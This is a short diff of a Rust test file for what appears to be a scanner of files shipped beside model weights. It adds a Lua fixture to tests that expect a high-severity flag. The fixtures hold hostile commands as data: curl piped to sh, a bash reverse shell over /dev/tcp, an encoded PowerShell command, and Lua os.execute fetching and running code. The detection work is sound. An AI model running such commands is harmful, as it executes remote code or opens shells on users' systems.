@@ -552,6 +552,7 @@ fn what_lies_beside_the_weights() {
     );
     check(&[("install.sh", "curl http://x/y | sh\n")], &[("REP002", High)]);
     check(&[("run", "#!/bin/bash\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n")], &[("REP002", High)]);
+    check(&[("init.lua", "os.execute('curl http://x/y | sh')\n")], &[("REP002", High)]);
     check(&[("run.ps1", "powershell -enc \\\n ZQBj\n")], &[("REP002", High)]);
     check(
         &[(
